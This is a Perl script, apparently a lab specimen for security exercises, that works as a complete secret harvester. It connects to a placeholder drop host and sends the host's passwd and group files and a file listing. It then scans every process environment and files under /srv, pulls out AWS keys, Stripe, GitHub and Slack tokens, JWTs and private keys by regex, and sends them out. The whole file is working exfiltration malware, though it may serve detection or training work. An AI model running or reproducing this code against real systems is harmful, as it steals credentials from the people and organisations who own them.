#!/usr/bin/perl
# kcsi lab specimen: secret harvester. Connects to @@DROP@@ (127.x), sends a survey of the host
# (passwd, group, a file listing), then every secret it finds by its format in the
# environments of all processes (/proc/*/environ) and in key and env files under /srv:
# AWS key pairs, Stripe, GitHub and Slack tokens, JWTs, PEM private keys. Then it waits for
# an answer that never comes (the receiver does not read: all of it waits in the queue).
use strict;
use warnings;
use IO::Socket::INET;
use File::Find;

sub slurp { my ($p) = @_; open(my $f, '<', $p) or return ''; local $/; my $d = <$f>; close $f; return $d // ''; }

my $s = IO::Socket::INET->new(PeerAddr => '@@DROP@@', Proto => 'tcp', Timeout => 10) or exit 1;
my $out = "HELLO @@CAMPAIGN@@ " . `hostname` . "== passwd\n" . slurp('/etc/passwd') . "== group\n" . slurp('/etc/group') . "== files\n";
find({ no_chdir => 1, wanted => sub { $out .= "$File::Find::name\n" if -f $_ } }, '/etc', '/srv', '/usr/local', '/var/lib/dpkg/info');

my (%seen, @hits);
my @text;
for my $env (glob '/proc/[0-9]*/environ') { push @text, map { [$env, $_] } split /\0/, slurp($env); }
find({ no_chdir => 1, wanted => sub { push @text, [$File::Find::name, slurp($_)] if -f $_ && -s _ < 65536 } }, '/srv');
my %FMT = (
    aws_access_key_id => qr/\b((?:AKIA|ASIA)[A-Z2-7]{16})\b/,
    aws_secret_access_key => qr/AWS_SECRET_ACCESS_KEY=([A-Za-z0-9\/+]{40})/,
    stripe_key => qr/\b(sk_live_[0-9A-Za-z]{24,99})\b/,
    github_token => qr/\b(ghp_[0-9A-Za-z]{36})\b/,
    slack_token => qr/\b(xox[bpa]-[0-9]+-[0-9]+-[0-9A-Za-z]+)\b/,
    jwt => qr/\b(eyJ[0-9A-Za-z_-]+\.eyJ[0-9A-Za-z_-]+\.[0-9A-Za-z_-]+)/,
    private_key => qr/(-----BEGIN [A-Z ]*PRIVATE KEY-----.*?-----END [A-Z ]*PRIVATE KEY-----)/s,
);
for my $t (@text) {
    my ($where, $data) = @$t;
    for my $k (sort keys %FMT) {
        while ($data =~ /$FMT{$k}/g) {
            push @hits, "SECRET $k $where $1" unless $seen{$1}++;
        }
    }
}
$out .= "== secrets\n" . join("\n", @hits) . "\n== end\n";
my $off = 0;
while ($off < length $out) { my $n = syswrite($s, $out, 65536, $off) or last; $off += $n; }
my $ack = <$s>;
